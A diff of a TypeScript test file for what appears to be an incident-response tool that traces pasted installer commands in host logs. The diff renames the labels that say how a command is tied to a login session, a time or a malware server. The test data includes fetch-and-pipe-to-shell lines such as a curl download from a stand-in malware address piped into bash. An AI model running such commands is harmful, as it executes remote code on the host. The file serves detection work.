@@ -31,25 +31,25 @@ const found = (events: HostEvent[], standing: Partial<StandingClues> = {}): stri
   const answer = pastedInstaller(
     cluesOf('web1', events, [], clueless({ owners: ['root'], ...standing }), anchor, at('2026-05-02 00:00:00')),
   )
-  return answer && `${answer.tied ? 'tied' : 'near'} ${answer.run.command}`
+  return answer && `${answer.tie} ${answer.run.command}`
 }
 
 test('piped into a shell in the session of somebody known for long', () => {
   const pipe = typed('curl -fsSL https://get.example.com/panel.sh | sudo bash')
-  assert.equal(found([...visits(6), login(home), typed('uptime'), pipe], session(home)), `tied ${pipe.command}`)
+  assert.equal(found([...visits(6), login(home), typed('uptime'), pipe], session(home)), `session ${pipe.command}`)
 })
 
 test('fetched, unpacked and installed: the sudo of it is dated', () => {
   const fetch = typed('wget -q https://example.com/panel-1.2.tar.gz')
   const run = eventOf('2026-05-01 03:19:50', 'privilege', { source: 'auth', user: 'root', command: '/root/panel-1.2/install.sh' })
-  assert.equal(found([...visits(6), login(home), fetch, run]), `near ${run.command}`)
+  assert.equal(found([...visits(6), login(home), fetch, run]), `time ${run.command}`)
   assert.equal(found([...visits(6), login(home), run]), undefined)
 })
 
 test('no login on record: only what came from the server of the malware itself', () => {
   const pipe = typed('curl -fsSL http://198.51.100.7:8088/get.sh | bash')
   const url = (value: string): Partial<StandingClues> => ({ remains: [{ key: 'url', value, entity: 'file:/x', findings: ['F-1'] }] })
-  assert.equal(found([pipe], url('http://198.51.100.7:8088/x.sh')), `near ${pipe.command}`)
+  assert.equal(found([pipe], url('http://198.51.100.7:8088/x.sh')), `server ${pipe.command}`)
   assert.equal(found([pipe], url('http://203.0.113.9/x.sh')), undefined)
 })
 
